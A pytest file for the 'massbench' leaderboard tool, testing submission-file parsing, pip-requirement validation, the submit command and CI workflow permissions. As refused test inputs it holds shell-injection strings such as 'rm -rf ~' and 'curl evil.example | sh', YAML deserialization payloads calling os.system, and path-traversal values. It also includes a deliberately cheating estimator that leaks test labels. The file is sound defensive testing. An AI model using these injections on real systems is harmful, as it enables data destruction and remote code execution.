"""Submission files (safe YAML, requirement validation) and ``massbench leaderboard submit``, the one
command doing what the pull-request CI job does, on the smoke benchmark (or the toy one)."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from massbench.errors import ConfigError
from massbench.submissions import derived_benchmark, parse_submission, validate_requirement

from .conftest import ROOT, TOY_BENCH, run_cli

GOOD = """\
name: mass-forest
requirement: "mass-forest==0.2.1"
estimators:
  - name: mass-forest
    label: Mass forest
    params: {ridge: 0.01}
"""


@pytest.mark.parametrize(
    "req, project",
    [
        ("mass-forest", "mass-forest"),
        ("Mass_Forest==0.2.1", "mass-forest"),
        ("mass-forest[gpu]>=0.2,<0.3", "mass-forest"),
        ("mass-forest (>=0.2)", "mass-forest"),
        ("mass-forest @ https://github.com/someone/mass-forest/archive/v0.2.tar.gz", "mass-forest"),
        ("mass-forest @ git+https://github.com/someone/mass-forest@v0.2", "mass-forest"),
        ("mass-forest @ file:///tmp/mass-forest", "mass-forest"),
    ],
)
def test_valid_requirements(req, project):
    assert validate_requirement(req) == project


@pytest.mark.parametrize(
    "req, words",
    [
        ("-e .", "pip option"),
        ("--index-url=https://evil.example/simple mass-forest", "pip option"),
        ("-r requirements.txt", "pip option"),
        ("mass-forest; rm -rf ~", "not a plain pip requirement"),
        ("mass-forest && curl evil.example | sh", "not a plain pip requirement"),
        ("mass-forest @ https://x.example/$(whoami).tar.gz", "not a plain pip requirement"),
        ("mass-forest @ http://insecure.example/a.tar.gz", "not a plain pip requirement"),
        ("mass-forest @ https://x.example/a.tar.gz --extra-index-url https://evil", "not a plain pip requirement"),
        ("./mass-forest", "looks like a path"),
        ("mass-forest==0.2; python_version > '3'", "not a plain pip requirement"),
        ("mass forest", "not a plain pip requirement"),
        ("", "must be a pip requirement"),
    ],
)
def test_unsafe_or_malformed_requirements_are_refused(req, words):
    with pytest.raises(ConfigError, match=words.replace("(", r"\(")):
        validate_requirement(req)


def test_parse_good_submission():
    sub = parse_submission(GOOD)
    assert sub.name == "mass-forest" and sub.project == "mass-forest" and sub.benchmark is None
    assert [(e.name, e.label, e.params) for e in sub.estimators] == [("mass-forest", "Mass forest", {"ridge": 0.01})]
    short = parse_submission("name: x\nrequirement: x\nestimators: [x-est]\nbenchmark: benchmarks/smoke.yaml\n")
    assert short.estimators[0].label == "x-est" and short.benchmark == "benchmarks/smoke.yaml"


@pytest.mark.parametrize(
    "text, words",
    [
        (GOOD.replace("name: mass-forest\n", "name: mass-forest\nscript: curl x | sh\n", 1), ":2: unknown key script"),
        (
            GOOD.replace('"mass-forest==0.2.1"', '"-e git+https://x"'),
            ":2: requirement '-e git+https://x' is a pip option",
        ),
        (GOOD + "benchmark: /etc/passwd\n", ":7: benchmark '/etc/passwd' must name a file of massbench's benchmarks/"),
        (GOOD + "benchmark: benchmarks/../../x.yaml\n", "must name a file of massbench's benchmarks/"),
        (GOOD.replace("- name: mass-forest", "- name: pkg.module:Class"), ":4: estimators[0].name"),
        (GOOD + "  - name: other\n    label: Mass forest\n", "label 'Mass forest' is used twice"),
        (GOOD.replace("label: Mass forest", "label: 'a, b'"), "without commas"),
        (GOOD.replace("estimators:", "estimators: []\nx:").split("  - name")[0], "unknown key x"),
        ("!!python/object/apply:os.system ['echo hacked']\n", "not valid YAML"),
        ("name: a\nrequirement: !!python/name:os.system\nestimators: [a]\n", "not valid YAML"),
        ("- just\n- a list\n", ":1: a submission file must be a mapping"),
        ("name: a\nname: b\nrequirement: a\nestimators: [a]\n", ":2: key 'name' appears twice"),
    ],
)
def test_bad_submissions_name_file_and_line(text, words):
    with pytest.raises(ConfigError) as exc:
        parse_submission(text, "leaderboards/submissions/mass-forest.yaml" if "name: a" not in text else "s/a.yaml")
    assert words in str(exc.value)


def test_name_must_match_file_name(tmp_path):
    from massbench.submissions import load_submission

    p = tmp_path / "other.yaml"
    p.write_text(GOOD)
    with pytest.raises(ConfigError, match=r"other.yaml:1: name 'mass-forest' must equal the file name \('other'\)"):
        load_submission(p)


def test_derived_benchmark_adds_estimators_and_refuses_label_clashes(tmp_path):
    bench = tmp_path / "b.yaml"
    bench.write_text(TOY_BENCH + "explainers:\n  - name: toy-explainer\n    estimators: [Linear]\n")
    text, base, labels = derived_benchmark(bench, parse_submission(GOOD))
    from massbench.config import parse_benchmark

    b = parse_benchmark(text)
    assert (b.benchmark, b.version) == (base.benchmark, base.version) and not b.explainers
    assert [e.label for e in b.estimators] == ["Linear", "Mass forest"] and labels == ["Mass forest"]
    with pytest.raises(ConfigError, match="label 'Linear' is already used"):
        derived_benchmark(bench, parse_submission(GOOD.replace("label: Mass forest", "label: Linear")))


def _smoke_or_toy(tmp_path: Path) -> tuple[Path, str]:
    """benchmarks/smoke.yaml when it exists and its dataset is installed, else a toy benchmark; and the input
    the generated plugin should read."""
    smoke = ROOT / "benchmarks" / "smoke.yaml"
    if smoke.exists():
        from massbench.config import load_benchmark

        small = load_benchmark(smoke).dataset.params.get("n_clusters", 10**6) <= 400  # fast enough for this test
        p = run_cli("validate", str(smoke))
        if small and p.returncode == 0 and "dataset erosita-mock" in p.stdout:
            return smoke, "n_phot_500c"
    bench = tmp_path / "toy.yaml"
    bench.write_text(TOY_BENCH)
    return bench, "obs"


def _plugin_and_submission(
    tmp_path: Path, input_name: str, name: str = "mass-forest", edit=None, estimators: str | None = None
) -> Path:
    assert run_cli("new-plugin", str(tmp_path / name), "--name", name, "--input", input_name).returncode == 0
    if edit:
        est = tmp_path / name / "src" / name.replace("-", "_") / "estimator.py"
        est.write_text(edit(est.read_text()))
    sub = tmp_path / "submissions" / f"{name}.yaml"
    sub.parent.mkdir(exist_ok=True)
    sub.write_text(
        textwrap.dedent(f"""\
        name: {name}
        requirement: "{name} @ {(tmp_path / name).as_uri()}"
        estimators:
        """)
        + (estimators or f"  - name: {name}\n    label: Forest (submitted)\n    params: {{ridge: 1.0e-6}}\n")
    )
    return sub


def test_submit_installs_checks_runs_and_writes_the_comment(tmp_path):
    bench, input_name = _smoke_or_toy(tmp_path)
    sub = _plugin_and_submission(tmp_path, input_name)
    out = tmp_path / "out"
    p = run_cli(
        "leaderboard",
        "submit",
        str(sub),
        "--bench",
        str(bench),
        "--out",
        str(out),
        "--no-build-isolation",
        "--device",
        "cpu",
        timeout=600,
    )
    assert p.returncode == 0, p.stdout + p.stderr
    comment = (out / "comment.md").read_text()
    assert "passed" in comment.splitlines()[0] and "| Forest (submitted) | mass-forest |" in comment
    assert "mass-forest: all checks passed" in comment and "installed mass-forest 0.1.0" in comment
    rows = {r["label"]: r for r in json.loads((out / "results" / "leaderboard.json").read_text())}
    assert set(rows) == {"Forest (submitted)", "baseline-mean"}  # --only: the base estimators did not run
    assert rows["Forest (submitted)"]["status"] == "ok"
    assert rows["Forest (submitted)"]["scatter_dex"] < rows["baseline-mean"]["scatter_dex"]
    assert (out / "results" / "run.json").exists() and (out / "venv").is_dir()
    summary = json.loads((out / "summary.json").read_text())
    assert summary["ok"] and summary["distributions"] == ["mass-forest 0.1.0"]
    # installed only in the fresh environment, not in the project's
    assert '"mass-forest"' not in run_cli("plugins", "--json").stdout
    # and the run merges into a published leaderboard
    pub = tmp_path / "pub"
    p = run_cli("leaderboard", "build", str(out / "results"), "--publish", str(pub), "--no-figures")
    assert p.returncode == 0, p.stderr
    b = json.loads((out / "results" / "run.json").read_text())
    assert (pub / b["benchmark"] / b["version"] / "index.html").exists()


def test_submit_reports_contract_breaks_and_foreign_estimators(tmp_path):
    bench = tmp_path / "toy.yaml"
    bench.write_text(TOY_BENCH)
    cheat = _plugin_and_submission(
        tmp_path,
        "obs",
        name="cheater",
        edit=lambda s: s.replace(
            "return self._features(test) @ self.coef_",
            "return test.log10_m500c + 0 * (self._features(test) @ self.coef_)",
        ),
    )
    p = run_cli(
        "leaderboard",
        "submit",
        str(cheat),
        "--bench",
        str(bench),
        "--out",
        str(tmp_path / "o1"),
        "--no-build-isolation",
    )
    assert p.returncode == 1
    comment = (tmp_path / "o1" / "comment.md").read_text()
    assert "problems found" in comment and "no-test-masses" in comment
    assert not (tmp_path / "o1" / "results").exists()  # never benchmarked
    foreign = _plugin_and_submission(
        tmp_path, "obs", name="borrower", estimators="  - name: borrower\n  - name: toy-linear\n    label: Mine\n"
    )
    p = run_cli(
        "leaderboard",
        "submit",
        str(foreign),
        "--bench",
        str(bench),
        "--out",
        str(tmp_path / "o2"),
        "--no-build-isolation",
    )
    assert p.returncode == 1
    assert (
        "estimator 'toy-linear' comes from distribution 'MASSBENCH_PLUGINS', not from the submitted requirement "
        "'borrower'" in (tmp_path / "o2" / "comment.md").read_text()
    )
    p = run_cli("leaderboard", "submit", str(tmp_path / "submissions" / "missing.yaml"), "--bench", str(bench))
    assert p.returncode == 2 and "missing.yaml: cannot read" in p.stderr.replace("\n", "")


def test_workflow_runs_the_documented_commands():
    """.github/workflows/leaderboard.yml: lite benchmark on push, optional GPU job, Pages, submission PRs."""
    import yaml

    wf = yaml.safe_load((ROOT / ".github" / "workflows" / "leaderboard.yml").read_text())
    on = wf.get("on", wf.get(True))  # YAML 1.1 reads the key `on` as true
    assert on["push"]["branches"] == ["main"]
    assert on["pull_request"]["paths"] == ["leaderboards/submissions/*.yaml"]
    jobs = wf["jobs"]

    def script(job):
        return "\n".join(str(s.get("run", "")) + str(s.get("uses", "")) for s in jobs[job]["steps"])

    assert jobs["lite"]["runs-on"] == "ubuntu-latest"
    assert "massbench run benchmarks/erosita-lite.yaml" in script("lite")
    assert "leaderboard submit" in script("lite")
    assert "vars.MASSBENCH_GPU_RUNNER" in jobs["full"]["if"] and "MASSBENCH_GPU_RUNNER" in jobs["full"]["runs-on"]
    assert "massbench run benchmarks/erosita.yaml" in script("full")
    pub = script("publish")
    assert "leaderboard build" in pub and "--publish leaderboards/" in pub
    assert "actions/upload-pages-artifact" in pub and "actions/deploy-pages" in pub
    assert jobs["publish"]["permissions"]["pages"] == "write"
    sub = script("submission")
    assert "leaderboard submit" in sub and "--install-only" in sub and "as-sandbox.sh" in sub
    assert jobs["submission"]["if"] == "github.event_name == 'pull_request'"
    # the comment is posted by a job that checks nothing out and runs no submitted code (issue 17)
    assert jobs["submission"]["permissions"] == {"contents": "read"}
    assert "gh pr comment" in script("comment") and "gh pr comment" not in sub
    assert "actions/checkout" not in script("comment") and "massbench" not in script("comment")
    assert jobs["comment"]["permissions"] == {"pull-requests": "write"}
    # sealed evaluation: the secret only where the benchmark runs on main, never in pull-request jobs
    text = (ROOT / ".github" / "workflows" / "leaderboard.yml").read_text()
    for name, job in jobs.items():
        for step in job["steps"]:
            if "actions/checkout" in str(step.get("uses", "")):
                assert step["with"]["persist-credentials"] is False, name
            if "secrets." in str(step):
                assert name in ("lite", "full") and "--sealed" in step["run"], name
    assert text.count("secrets.MASSBENCH_SEALED_SEED") == 2
    assert "massbench run benchmarks/erosita-lite.yaml" in script("lite") and "$sealed" in script("lite")
    assert wf["permissions"] == {"contents": "read"}
